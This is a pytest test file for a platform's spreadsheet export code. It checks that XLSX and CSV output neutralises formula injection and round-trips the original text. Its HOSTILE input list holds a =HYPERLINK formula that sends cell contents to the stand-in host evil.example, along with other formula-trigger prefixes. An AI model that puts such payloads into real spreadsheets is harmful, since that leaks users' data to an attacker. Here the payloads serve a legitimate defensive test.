"""Every spreadsheet the platform writes is formula-safe and round-trips the original text."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from shared.xlsx import csv_bytes, restore_csv_text, xlsx_bytes

HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"点击")', "+1+2", "-2+3", "@SUM(A1)", "\tx", "\rx", "=1+1"]


def test_no_formula_cell_and_original_text_back() -> None:
    data = xlsx_bytes("导出", ["名称", "金额"], [[text, Decimal("-12.50")] for text in HOSTILE])
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    rows = list(sheet.iter_rows(min_row=2))
    # XML normalises a carriage return to a line feed; every other text comes back byte for byte.
    assert [row[0].value for row in rows] == [t.replace("\r", "\n") for t in HOSTILE]
    assert all(row[0].data_type == "s" for row in rows)
    # A negative amount stays a number.
    assert all(row[1].data_type == "n" and row[1].value == -12.5 for row in rows)


def test_plain_text_is_untouched() -> None:
    data = xlsx_bytes("s", ["a"], [["云南某某科技有限公司"], ["A-1"]])
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    assert [c.value for c in sheet["A"]] == ["a", "云南某某科技有限公司", "A-1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_csv_neutralised_and_restored(text: str) -> None:
    raw = csv_bytes(["名称"], [[text]]).decode("utf-8-sig")
    written = list(csv.reader(io.StringIO(raw)))[1][0]
    assert written.startswith("'")
    assert restore_csv_text(written) == text


def test_restore_leaves_a_real_apostrophe() -> None:
    assert restore_csv_text("'quoted'") == "'quoted'"
